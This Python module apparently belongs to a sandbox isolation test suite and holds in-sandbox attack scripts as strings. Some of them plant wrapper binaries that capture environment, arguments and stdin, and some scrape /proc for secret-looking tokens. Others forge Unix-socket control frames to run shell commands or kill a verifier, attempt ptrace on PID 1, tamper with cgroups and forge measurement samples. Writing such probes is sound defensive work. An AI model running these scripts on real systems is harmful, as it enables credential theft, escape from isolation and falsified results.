"""What `raysweep.testing.attacks` runs inside sandboxes: Python (3.9, standard library) and shell, as texts."""

from __future__ import annotations

STREAMS = r"""
import os, re, signal, sys, time
def processes():
    for p in filter(str.isdigit, os.listdir('/proc')):
        try: yield int(p), open(f'/proc/{p}/cmdline', 'rb').read()
        except OSError: pass
def streams():
    return [p for p, line in processes() if b'\0call\0' in line and p != os.getpid()]
def kill_streams():
    for p in streams():
        try: os.kill(p, signal.SIGKILL)
        except OSError: pass
"""

TAKE_PLACES = (
    STREAMS
    + r"""
import shutil, subprocess
PLANTED = (b'#!/bin/sh\nmkdir -p /tmp/loot; env > /tmp/loot/env.$$; echo "$@" > /tmp/loot/args.$$\n'
    b'exec cat > /tmp/loot/stdin.$$\n')
places = {line.split(b'\0')[0].decode() for p, line in processes() if b'supervisor' in line}
places |= {'/.raysweep/supervisor', '/.raysweep/bin/supervisor', '/run/raysweep/inside/supervisor.py'}
def attempt(call, *args):
    try: call(*args)
    except (OSError, shutil.Error): pass
def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f: f.write(PLANTED)
    os.chmod(path, 0o755)
for place in sorted(p for p in places if 'python' not in p):
    if not place.startswith('/'): continue
    folder = place
    while folder not in ('', '/'):
        if folder.startswith(('/.raysweep', '/run/raysweep')):
            attempt(os.rename, folder, folder + '.gone')
            attempt(os.symlink, '/tmp', folder)
            subprocess.run(['umount', folder], stderr=subprocess.DEVNULL)
            subprocess.run(['mount', '-t', 'tmpfs', 'none', folder], stderr=subprocess.DEVNULL)
        folder = os.path.dirname(folder)
    attempt(os.unlink, place)
    attempt(write, place)
for folder in ('/.raysweep', '/.raysweep-spool', '/.raysweep-kept'):
    attempt(os.rename, folder, folder + '.away')
    attempt(shutil.rmtree, folder)
kill_streams()
"""
)

KILL_STREAMS = (
    "for p in /proc/[0-9]*; do"
    " tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q 'supervisor call' && kill -9 ${p#/proc/}; done; true"
)

WATCH_PROCESSES = (
    STREAMS
    + r"""
end, seen = time.monotonic() + float(sys.argv[1]), set()
turns = 0
while time.monotonic() < end:
    for p in filter(str.isdigit, os.listdir('/proc')):
        for name in ('environ', 'cmdline', 'comm'):
            try: seen.add(open(f'/proc/{p}/{name}', 'rb').read())
            except OSError: pass
        try:
            for fd in os.listdir(f'/proc/{p}/fd'):
                if int(p) == os.getpid(): continue
                path = f'/proc/{p}/fd/{fd}'
                if os.path.isfile(path): seen.add(open(path, 'rb').read(1 << 16))
        except (OSError, ValueError): pass
    turns += 1
    if turns % 20 == 0: kill_streams()
sys.stdout.buffer.write(b'\n'.join(sorted(seen))[:900000])
"""
)

GIVE_ORDERS = (
    STREAMS
    + r"""
import hashlib, hmac, socket, struct
ids = sys.argv[1:] or ['order']
def frame(*fields, seal=bytes(32)):
    head = '\0'.join(fields).encode()
    return struct.pack('>IQ', len(head), 0) + head + seal
words = {''}
for p, line in processes():
    words |= {w.decode(errors='replace') for w in line.split(b'\0')}
    try: settings = open(f'/proc/{p}/environ', 'rb').read().split(b'\0')
    except OSError: continue
    words |= {w.decode(errors='replace').partition('=')[2] for w in settings}
tokens = [w for w in words if len(w) in (32, 64)] + ['']
names = {'raysweep-task', 'raysweep-keeper'}
try:
    for line in open('/proc/net/unix'):
        found = re.search(r'@(raysweep\S*)', line)
        if found: names.add(found[1])
except OSError: pass
orders = [['stop'], ['get', '/etc/passwd', '1000000'], ['kill', 'verifier']]
orders += [['exec', i, '-1', '/', '0', '3', '/bin/sh', '-c', 'touch /tmp/obeyed; echo forged'] for i in ids]
def exactly(s, size):
    data = b''
    while len(data) < size:
        piece = s.recv(size - len(data))
        if not piece: raise OSError('closed')
        data += piece
    return data
def one_frame(s):
    head, body = struct.unpack('>IQ', exactly(s, 12))
    return exactly(s, head + body + 32)
for name in sorted(names):
    for token in tokens:
        for order in orders:
            first = frame('1', 'hello', 'n', token)
            for seal in (bytes(32), hashlib.sha256(token.encode()).digest()):
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(0.3)
                    try:
                        s.connect('\0' + name)
                        s.sendall(token.encode() if 'keeper' in name else first)
                        one_frame(s)
                        s.sendall(frame('2', *order, seal=seal))
                        if s.recv(1 << 16): print('obeyed', name, order)
                    except OSError: pass
def old(name, order):  # frames without seals, as another version has them
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.3)
        try:
            s.connect('\0' + name)
            for fields in (['1', 'hello', ''], ['2', *order]):
                head = '\0'.join(fields).encode()
                s.sendall(struct.pack('>IQ', len(head), 0) + head)
            if s.recv(1 << 16): print('obeyed', name, order)
        except OSError: pass
for name in sorted(names):
    for order in orders: old(name, order)
"""
)

LOOK_INTO = (
    STREAMS
    + r"""
import ctypes, resource
libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, PIDFD_OPEN, PIDFD_GETFD, READV = 16, 0x4206, 434, 438, 310
for p in [1, *streams()]:
    for request in (ATTACH, SEIZE):
        if libc.ptrace(request, p, None, None) == 0: print('traced', p)
    for name in ('mem', 'environ', 'maps', 'auxv', 'syscall', 'stack', 'io'):
        try:
            if open(f'/proc/{p}/{name}', 'rb').read(1): print('read', p, name)
        except OSError: pass
    try:
        open(f'/proc/{p}/mem', 'r+b'); print('opened', p)
    except OSError: pass
    for fd in range(12):
        try: os.close(os.open(f'/proc/{p}/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK)); print('descriptor', p, fd)
        except OSError: pass
    handle = libc.syscall(PIDFD_OPEN, p, 0)
    for fd in range(12):
        if handle >= 0 and libc.syscall(PIDFD_GETFD, handle, fd, 0) >= 0: print('borrowed', p, fd)
    for path in (f'/proc/{p}/exe', f'/proc/{p}/root', f'/proc/{p}/cwd'):
        try: os.readlink(path); print('link', path)
        except OSError: pass
    try:
        resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3))
        if p == 1: print('limited', p)  # of the others it is no more than to kill them
    except (OSError, ValueError): pass
for change in (lambda: os.sched_setaffinity(1, [0]), lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
               lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1))):
    try: change(); print('steered')
    except OSError: pass
"""
)

FORGE_SAMPLES = (
    STREAMS
    + r"""
import socket
value = sys.argv[1]
row = ' '.join([str(time.clock_gettime_ns(time.CLOCK_BOOTTIME) // 1000 + 5000000)] + [value] * 9) + '\n'
for folder in ('/.raysweep', '/.raysweep-spool', '/.raysweep-kept', '/.raysweep/spool', '/run/raysweep'):
    for name in ('samples', 'c-1.out'):
        try:
            with open(f'{folder}/{name}', 'a') as f: f.write(row)
        except OSError: pass
for name in ('raysweep-keeper', 'raysweep-task'):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.3)
        try:
            s.connect('\0' + name); s.sendall(b'0' * 64 + row.encode()); s.recv(1)
        except OSError: pass
    late = socket.socket(socket.AF_UNIX)
    try:
        late.bind('\0' + name); late.listen()
    except OSError: pass
"""
)

WRITE_LIMITS = (
    "for f in $(find /sys/fs/cgroup -type f 2>/dev/null | head -n 400); do"
    " for v in max -1 0 1000000000000; do { echo $v > $f; } 2>/dev/null && echo written $f; done; done;"
    " for d in $(find /sys/fs/cgroup -name cgroup.procs 2>/dev/null); do"
    " mkdir ${d%cgroup.procs}x 2>/dev/null && echo written $d; done;"
    " mkdir -p /tmp/cg; mount -t cgroup2 none /tmp/cg 2>/dev/null && echo written mount;"
    " { echo 0 > /proc/1/oom_score_adj; } 2>/dev/null; true"
)

LARGE_FILES = r"""
import os, sys
os.makedirs('/tmp/large/many')
with open('/tmp/large/sparse', 'wb') as f: f.truncate(int(sys.argv[1]))
for n in range(3000): open(f'/tmp/large/many/{"n" * 200}{n}', 'wb').close()
"""

ODD_FILES = r"""
import os, subprocess, sys
os.makedirs('/tmp/odd/names')
os.mkfifo('/tmp/odd/pipe')
os.symlink('loop', '/tmp/odd/loop')
os.symlink('/dev/zero', '/tmp/odd/zero')
os.symlink('/proc/self', '/tmp/odd/proc')
os.makedirs('/tmp/odd/deep')
here = os.getcwd()
os.chdir('/tmp/odd/deep')
for n in range(300):
    os.mkdir('d' * 200); os.chdir('d' * 200)
os.chdir(here)
for name in (b'\xff\xfe', b'new\nline', b' ', b'-rf', b'..x', b'n' * 255):
    open(b'/tmp/odd/names/' + name, 'wb').close()
code = "import time\nf = open('/tmp/odd/growing', 'ab', 0)\nend = time.time() + 20\n"
code += "while time.time() < end: f.write(bytes(1000))"
subprocess.Popen([sys.executable, '-S', '-c', code], start_new_session=True)
"""
